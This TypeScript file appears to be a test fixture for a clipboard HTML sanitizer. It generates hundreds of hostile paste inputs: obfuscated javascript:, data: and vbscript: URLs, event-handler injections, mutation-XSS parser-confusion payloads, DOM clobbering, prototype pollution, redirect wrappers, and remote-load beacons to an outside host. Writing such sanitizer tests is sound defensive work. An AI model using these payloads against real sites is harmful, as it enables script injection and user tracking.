/** What a hostile clipboard would run, as code in an attribute or an element. */
const run = 'window.hasRun=true'

/** Addresses that are code, that hide a scheme, or that lead to another host without one. `host` is a server that must never hear of us. */
function addresses(host: string): string[] {
  const entities = (text: string, write: (code: number) => string) => text.replace(/./g, (character) => write(character.charCodeAt(0)))
  return [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `java\r\nscript:${run}`,
    `java&#9;script:${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `java&#x0000A;script:${run}`,
    `\u0001javascript:${run}`,
    `&#14; javascript:${run}`,
    `  javascript:${run}`,
    `\u00a0javascript:${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `javascript&#x3a;${run}`,
    `${entities('javascript', (code) => `&#${code};`)}:${run}`,
    `${entities('javascript', (code) => `&#${code}`)}:${run}`,
    `${entities('javascript', (code) => `&#x${code.toString(16)};`)}:${run}`,
    `${entities('javascript', (code) => `&#${String(code).padStart(7, '0')};`)}:${run}`,
    `javascript://%0a${run}`,
    `javascript:/*https://news.example/*/${run}`,
    `feed:javascript:${run}`,
    `view-source:javascript:${run}`,
    `vbscript:${run}`,
    `VbScRiPt:msgbox`,
    `livescript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFzUnVuPXRydWU8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `DATA:text/javascript,${run}`,
    `blob:app://copydesk/0`,
    `file:///etc/passwd`,
    `//${host}/a`,
    `\\\\${host}\\a`,
    `/\\${host}/a`,
    `/\t/${host}/a`,
    `ms-word:ofe|u|http://${host}/a`,
    `about:blank`
  ]
}

const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a link</a>`,
  (address) => `<p><a href='${address}' target=_blank ping=//ping.example><b>a link</b></a></p>`,
  (address) => `<svg><a xlink:href="${address}"><text>a link</text></a></svg>`,
  (address) => `<math><maction actiontype="statusline" xlink:href="${address}">a link</maction></math>`,
  (address) => `<map name=m><area shape=default href="${address}"></map>`,
  (address) => `<form action="${address}"><button formaction="${address}">go</button><input type=submit></form>`,
  (address) => `<iframe src="${address}"></iframe><object data="${address}"></object><embed src="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x" alt=x><video poster="${address}"><source src="${address}"></video>`,
  (address) => `<base href="${address}"><meta http-equiv=refresh content="0;url=${address}"><link rel=stylesheet href="${address}">`,
  (address) => `<p style="background:url('${address}')">styled</p><table background="${address}"><tr><td background="${address}">cell</table>`
]

const handlers = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onpaste', 'ondrop', 'onbeforeinput', 'OnLoad', 'on\u0000load']
const holders: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x ${handler}="${run}">`,
  (handler) => `<svg ${handler}="${run}"><animate attributeName=x ${handler}="${run}"/></svg>`,
  (handler) => `<p/${handler}=${run}>words</p>`,
  (handler) => `<details open ${handler}="${run}"><summary ${handler}="${run}">words</summary></details>`,
  (handler) => `<input autofocus ${handler}="${run}"><textarea autofocus ${handler}="${run}">words</textarea>`,
  (handler) => `<body ${handler}="${run}"><audio src=x ${handler}="${run}"></audio><marquee ${handler}="${run}">words</marquee>`
]

/** What loads by itself, and how parsers have been made to disagree. */
function oddities(host: string): string[] {
  const load = `http://${host}/load`
  const bad = `<img src=x onerror=${run}>`
  return [
    `<script>${run}</script>`,
    `<script src="${load}"></script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script type=module>import "${load}"</script>`,
    `<img src="${load}">`,
    `<img src=${load} width=300 height=200>`,
    `<img srcset="${load} 1x">`,
    `<img data-src="${load}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    `<picture><source srcset="${load}"><img src="${load}"></picture>`,
    `<style>@import url("${load}"); p { background: url("${load}") }</style><p>words</p>`,
    `<style><!-- p.a { background: url("${load}") } --></style><p class=a>words</p>`,
    `<p style="background: url(${load}); list-style-image: url(${load}); font-weight: bold">words</p>`,
    `<li style="list-style-image: url(${load})">words</li>`,
    `<svg><image href="${load}"/><use href="${load}#a"/><feImage href="${load}"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<video src="${load}" autoplay></video><audio src="${load}" autoplay></audio><track src="${load}">`,
    `<link rel=preload as=image href="${load}"><link rel=icon href="${load}"><link rel=dns-prefetch href="//${host}"><link rel=prefetch href="${load}">`,
    `<input type=image src="${load}">`,
    `<frameset onload=${run}><frame src="${load}"></frameset>`,
    `<object type="text/html" data="${load}"><param name=movie value="${load}"></object>`,
    `<template><script>${run}</script>${bad}</template>`,
    `<div><template shadowrootmode=open>${bad}<slot></slot></template></div>`,
    `<noscript><p title="</noscript>${bad}"></noscript>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg></p><style><a id="</style>${bad}">`,
    `<svg><style><img title="</style>${bad}">`,
    `<xmp><p title="</xmp>${bad}"></xmp>`,
    `<textarea><p title="</textarea>${bad}"></textarea>`,
    `<title><p title="</title>${bad}"></title>`,
    `<select><option><style></option></select>${bad}</style>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--[if gte mso 9]>${bad}<![endif]-->`,
    `<![if !supportLists]>${bad}<![endif]>`,
    `<![CDATA[${bad}]]>`,
    `<svg><![CDATA[${bad}]]></svg>`,
    `<?xml version="1.0"?>${bad}`,
    `<p title="<!--">${bad}<p title="-->">`,
    `<a id=attributes><form id=x><input name=attributes><input name=parentNode></form>`,
    `<form><input name=nodeName><input name=removeChild>${bad}</form>`,
    `<img name=getElementById><a id=body href="javascript:${run}">a</a>`,
    `${'<div>'.repeat(600)}${bad}`,
    `<x-element is=x>${bad}</x-element>`,
    `<p contenteditable=true tabindex=1 accesskey=x onfocus=${run}>words</p>`,
    `<style>@keyframes x {} p { animation: x }</style><p onanimationstart=${run}>words</p>`,
    `<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.${bad}</span>words</p>`,
    `<b id="docs-internal-guid-1" style="font-weight:normal;background:url(${load})">${bad}words</b>`,
    `<figure><img src="${load}" alt="&lt;img src=x onerror=${run}&gt;"><figcaption>&lt;script&gt;${run}&lt;/script&gt;</figcaption></figure>`,
    `<figure data-picture='{"pictureId":"../../settings.json","width":1,"height":1,"alt":"","caption":"","credit":""}'></figure>`,
    `<figure data-picture='{"pictureId":null,"width":null,"height":null,"alt":"&lt;img src=x onerror=${run}&gt;","caption":"","credit":""}' onclick=${run}></figure>`,
    `<figure data-picture='{"__proto__":{"hasRun":true}}'>${bad}</figure>`,
    `<p data-pm-slice='1 1 ["script",{}]'>words<script>${run}</script></p>`,
    `<p data-pm-slice='0 0 ["figure",{"pictureId":"${load}"}]'>words<svg onload=${run}></p>`,
    `<section data-listicle="ascending"><div data-listicle-item><h2 data-item-heading onclick=${run}>words<script>${run}</script></h2></div></section>`,
    `<a href="https://www.google.com/url?q=javascript:${run}">a link</a>`,
    `<a href="https://slack-redir.net/link?url=data:text/html,x">a link</a>`,
    `<a href="https://www.google.com/url?q=https%3A%2F%2Fwww.google.com%2Furl%3Fq%3Djavascript:${run}">a link</a>`
  ]
}

/** Hundreds of ways in which a clipboard could run something, load something or lead somewhere. */
export function hostileHtml(host: string): string[] {
  return [
    ...addresses(host).flatMap((address) => carriers.map((carrier) => carrier(address))),
    ...handlers.flatMap((handler) => holders.map((holder) => holder(handler))),
    ...oddities(host)
  ]
}
